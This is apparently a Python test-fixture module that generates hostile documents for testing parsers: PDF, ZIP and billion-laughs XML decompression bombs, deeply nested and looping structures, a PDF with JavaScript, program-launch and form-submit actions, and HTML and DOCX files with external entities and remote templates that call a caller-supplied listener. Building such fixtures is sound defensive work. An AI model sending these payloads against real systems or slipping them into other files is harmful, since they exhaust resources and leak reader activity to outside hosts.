"""Files made to harm their readers: bombs, loops, depth, length, scripts, network access. For tests and benchmarks."""

from __future__ import annotations

import io
import zipfile
import zlib
from itertools import pairwise
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

MEGABYTE = 1_000_000
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTENT_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SENTENCE = "The delegation reads article 5 with care."


def write_all(folder: Path, listener: str, *, megabytes: int = 1000, pages: int = 10_000) -> list[Path]:
    """Write one file of every kind into `folder`. Bombs unpack to `megabytes`, the long file has `pages` pages, and
    files that access the network call `listener` (an address that begins with http://).
    """
    made = {
        "bomb-stream.pdf": _stream_bomb(megabytes),
        "bomb-image.pdf": _image_bomb(),
        "bomb-zip.docx": _docx(b"<w:p>" + b" " * (megabytes * MEGABYTE // 4) + b"</w:p>"),
        "bomb-entities.docx": _docx(b"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", _entities()),
        "deep.html": b"<div>" * 200_000 + SENTENCE.encode(),
        "deep.rtf": b"{\\rtf1 " + b"{" * 200_000 + SENTENCE.encode(),
        "deep-pages.pdf": _deep_page_tree(5_000),
        "loop-pages.pdf": pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] >>"]),
        "loop-xref.pdf": _looping_xref(),
        "long.pdf": _long(pages),
        "acts.pdf": _acting(listener),
        "calls-home.html": _calling_html(listener),
        "calls-home.docx": _docx(
            b"<w:p><w:r><w:t>" + SENTENCE.encode() + b" &x;</w:t></w:r></w:p>",
            f'<!DOCTYPE d [<!ENTITY x SYSTEM "{listener}/entity"><!ENTITY % p SYSTEM "{listener}/dtd"> %p;]>'.encode(),
            f'<Relationship Id="t" Type="{OFFICE}/attachedTemplate" Target="{listener}/t.dotm" TargetMode="External"/>',
        ),
    }  # fmt: skip
    paths = []
    for name, content in made.items():
        path = folder / name
        path.write_bytes(content)
        paths.append(path)
    return paths


def write_huge(path: Path, megabytes: int) -> None:
    """Write a valid PDF of this size: a page of text, and a stream that nothing refers to."""
    start = pdf_file([*_page(SENTENCE), b"<< /Length 9 >>\nstream\nfiller...\nendstream"])
    mark = start.index(b"filler...")
    with path.open("wb") as stream:
        stream.write(start[:mark])
        for _ in range(megabytes):
            stream.write(b"%" * MEGABYTE)
        stream.write(start[mark:])


def _page(text: str, more: bytes = b"") -> list[bytes]:
    content = b"BT /F1 11 Tf 72 720 Td (%s) Tj ET" % text.encode()
    page = b"/MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 3 0 R >> >>"
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % more,
        b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Page /Parent 2 0 R %s >>" % page,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
    ]


def _stream_bomb(megabytes: int) -> bytes:
    """Text operators that are compressed a thousandfold, twice."""
    squeeze = zlib.compressobj(9)
    once = b"".join(squeeze.compress(b"( ) Tj " * 142_857) for _ in range(megabytes)) + squeeze.flush()
    twice = zlib.compress(once, 9)
    stream = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream" % (len(twice), twice)
    return pdf_file([*_page("")[:4], stream])


def _image_bomb() -> bytes:
    """An image whose header claims 60,000 pixels in width and height."""
    squeezed = zlib.compress(b"\0" * 50 * MEGABYTE, 9)
    image = (
        b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(squeezed), squeezed)
    )
    content = b"q 600 0 0 780 0 0 cm /I Do Q"
    objects = _page("")
    objects[3] = objects[3].replace(b"/Resources <<", b"/Resources << /XObject << /I 6 0 R >>")
    objects[4] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)
    return pdf_file([*objects, image])


def _deep_page_tree(depth: int) -> bytes:
    nodes = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1) for number in range(2, depth + 2)]
    return pdf_file([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, b"<< /Type /Page /MediaBox [0 0 612 792] >>"])


def _looping_xref() -> bytes:
    sound = pdf_file(_page(SENTENCE))
    start = int(sound.split(b"startxref\n")[1].split()[0])
    return sound.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def _long(pages: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (4 + 2 * number) for number in range(pages))
    objects = _page("")[:3]
    objects[1] = b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids)
    for number in range(pages):
        page, content = _page(f"Page {number + 1}. {SENTENCE}")[3:]
        objects += [page.replace(b"5 0 R", b"%d 0 R" % (5 + 2 * number)), content]
    return pdf_file(objects)


def _acting(listener: str) -> bytes:
    """A PDF that runs a script, starts a program, sends a form, opens a page and contains a program."""
    address = listener.encode()
    actions = (
        b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s/js'\\)) >> "
        b"/AA << /WC << /S /Launch /F (/bin/touch) /Win << /F (cmd.exe) >> >> /DP << /S /URI /URI (%s/uri) >> "
        b"/WS << /S /SubmitForm /F << /FS /URL /F (%s/form) >> >> >> "
        b"/Names << /EmbeddedFiles << /Names [(run.sh) 6 0 R] >> >>" % (address, address, address)
    )
    attached = b"<< /Type /Filespec /F (run.sh) /EF << /F 7 0 R >> >>"
    program = b"<< /Type /EmbeddedFile /Length 10 >>\nstream\n#!/bin/sh\n\nendstream"
    return pdf_file([*_page(SENTENCE, actions), attached, program])


def _calling_html(listener: str) -> bytes:
    loading = (("img", "src"), ("script", "src"), ("iframe", "src"), ("object", "data"), ("link", "href"))
    places = "".join(f'<{tag} {attribute}="{listener}/{tag}"></{tag}>' for tag, attribute in loading)
    head = f"<meta http-equiv='refresh' content='0; url={listener}/refresh'><base href='{listener}/'>"
    return f"<html><head>{head}</head><body><p>{SENTENCE}</p>{places}</body></html>".encode()


def _entities() -> bytes:
    """Each entity contains ten of the one before: the billion laughs."""
    names = "abcdefghij"
    lines = ['<!ENTITY a "laugh ">']
    lines += [f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)]
    return f"<!DOCTYPE d [{''.join(lines)}]>".encode()


def _docx(body: bytes, prologue: bytes = b"", relation: str = "") -> bytes:
    stream = io.BytesIO()
    main = f'<Relationship Id="r" Type="{OFFICE}/officeDocument" Target="word/document.xml"/>'
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        for name, content in (("_rels/.rels", main), ("word/_rels/document.xml.rels", relation)):
            package.writestr(name, f'<Relationships xmlns="{RELATIONS}">{content}</Relationships>')
        package.writestr(
            "word/document.xml",
            prologue + f'<w:document xmlns:w="{WORD}"><w:body>'.encode() + body + b"</w:body></w:document>",
        )
    return stream.getvalue()


def pdf_file(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF of these objects, of which the first is its catalogue; `trailer` adds entries to its trailer."""
    result = bytearray(b"%PDF-1.4\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(result))
        result += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(result)
    result += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    result += b"".join(b"%010d 00000 n \n" % place for place in places)
    result += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(result)
